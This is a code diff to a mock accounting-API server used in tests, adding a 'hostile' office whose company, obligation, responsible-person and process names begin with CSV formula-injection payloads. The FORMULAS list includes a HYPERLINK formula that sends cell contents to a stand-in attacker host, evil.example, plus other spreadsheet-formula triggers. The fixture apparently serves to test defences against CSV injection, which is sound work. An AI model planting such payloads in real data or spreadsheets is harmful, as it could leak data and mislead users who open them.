@@ -9,8 +9,9 @@ answers 429 (no Retry-After) or, in "silent" mode, an empty list page. Unfiltere
 pages wider than one page shift by ±1 row, so rows come duplicated and skipped, as measured upstream.
 
 Offices (by token): "test-token"/"demo-token" → ~30 empresas, ~211 processos; "big-token" → ~500
-empresas, 5,000 processos; "tiny-token" → 8 empresas, 40 processos. `/_control/*` moves the world on and
-injects faults (see docs/acessorias.md).
+empresas, 5,000 processos; "tiny-token" → 8 empresas, 40 processos; "hostile-token" → the tiny office
+whose names (empresas, obrigações, responsáveis, process titles) start like spreadsheet formulas.
+`/_control/*` moves the world on and injects faults (see docs/acessorias.md).
 """
 
 from __future__ import annotations
@@ -33,9 +34,13 @@ PROCESS_PAGE = 20
 COMPANY_PAGE = 20
 DELIVERY_PAGE = 50
 
-OFFICES = {"test-token": "small", "demo-token": "small", "big-token": "big", "tiny-token": "tiny"}
+OFFICES = {"test-token": "small", "demo-token": "small", "big-token": "big", "tiny-token": "tiny",
+           "hostile-token": "hostile"}
 # The tiny office keeps tests that run at the real pace of a rate limit (minutes per sweep) short.
-OFFICE_SIZES = {"tiny": (8, 40), "small": (30, 211), "big": (500, 5000)}
+OFFICE_SIZES = {"tiny": (8, 40), "small": (30, 211), "big": (500, 5000), "hostile": (8, 40)}
+# What the hostile office's names start with: CSV injection (OWASP), one of each trigger.
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Clique")&"', "+1+1+", "-2+3+", "@SUM(A1:A9)+",
+            "\t=1+1+", "\r=1+1+"]
 
 REGIMES = [
     "Simples Nacional - Serviços",
@@ -381,7 +386,24 @@ def build_office(kind: str, seed: int) -> Office:
                 office.entregas.append(_seed_entrega(rng, ent_id, empresa, nome, tipo, dep, comp, today))
                 ent_id += 1
     office.next_ent_id = ent_id
+    if kind == "hostile":
+        _inject_formulas(office)
     return office
+
+
+def _inject_formulas(office: Office) -> None:
+    """Every name of the office starts like a spreadsheet formula (what an upstream attacker could type)."""
+    def hostile(index: int, name: str) -> str:
+        return FORMULAS[index % len(FORMULAS)] + name
+
+    for i, empresa in enumerate(office.empresas):
+        empresa.razao = hostile(i, empresa.razao)
+        empresa.fantasia = hostile(i + 1, empresa.fantasia or "Fantasia")
+    for i, proc in enumerate(office.processos.values()):
+        proc.titulo = hostile(i, "Título")
+    for ent in office.entregas:
+        ent.nome = hostile(ent.config_id, ent.nome)  # one name per obrigação
+        ent.responsavel = hostile(RESPONSAVEIS.index(ent.responsavel), ent.responsavel)
 
 
 def delivery_status(entrega: date | None, prazo: date, atraso: date, today: date) -> str:
